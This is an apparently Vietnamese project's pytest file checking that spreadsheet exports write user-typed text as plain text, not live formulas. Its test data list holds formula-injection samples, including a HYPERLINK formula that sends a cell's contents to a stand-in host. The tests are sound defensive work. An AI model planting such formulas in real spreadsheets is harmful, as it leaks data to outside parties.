"""Text a person typed never becomes a live formula in a spreadsheet we generate."""

import datetime as dt
import io
import zipfile
from types import SimpleNamespace

import openpyxl
import pytest
from openpyxl import Workbook

from kieumau.core.sheets import safe_row

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Mở")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
]


def written(values) -> list:
    book = Workbook()
    sheet = book.active
    sheet.append(safe_row(sheet, values))
    out = io.BytesIO()
    book.save(out)
    return [cell for cell in openpyxl.load_workbook(io.BytesIO(out.getvalue())).active[1]]


def formulas_in(content: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return sum(
            archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    (cell,) = written([text])
    assert cell.data_type == "s"
    # A bare carriage return survives or becomes "\n", as the XML parser reading it back has it.
    assert cell.value in (text, text.replace("\r", "\n"))
    assert cell.quotePrefix


def test_other_values_are_left_alone():
    cells = written(["Phường Thái Hòa", 3, None, "a=b"])
    assert [c.value for c in cells[:2]] + [cells[3].value] == ["Phường Thái Hòa", 3, "a=b"]
    assert not cells[0].quotePrefix


def test_without_the_helper_openpyxl_would_write_a_formula():
    """The hazard is real: a plain append of "=…" is a formula."""
    book = Workbook()
    book.active.append([HOSTILE[0]])
    out = io.BytesIO()
    book.save(out)
    assert formulas_in(out.getvalue()) == 1


def test_indicator_template_writes_unit_names_as_text(db):
    from kieumau.indicators import xlsx

    hostile_unit = SimpleNamespace(pk=1, code="99999", name=HOSTILE[0], exists_on=lambda day: True)
    content = xlsx.build_template(
        units=[hostile_unit],
        indicators=[],
        first=dt.date(2026, 10, 1),
        last=dt.date(2026, 10, 1),
        stored={},
        title="=1+1",
    )
    assert formulas_in(content) == 0
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book[xlsx.SHEET]["B3"].value == HOSTILE[0]
    assert book[xlsx.GUIDE]["B1"].value == "=1+1"


def test_criteria_export_writes_titles_as_text(users):
    from kieumau.criteria.exports import to_xlsx
    from kieumau.criteria.services import create_set
    from kieumau.criteria.spec import CriterionSpec
    from tests.criteria.factories import small_spec

    spec = small_spec(
        title="=1+1",
        criteria=(
            CriterionSpec(code="TC 1", title=HOSTILE[0], group="I", guidance="@SUM(A1)"),
            CriterionSpec(code="TC 2", title="-2+3", group="I"),
        ),
    )
    content = to_xlsx(create_set(actor=users.ministry, spec=spec, status="published"))
    assert formulas_in(content) == 0
    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(content)).active for c in row]
    assert {"=1+1", HOSTILE[0], "@SUM(A1)", "-2+3"} <= set(values)
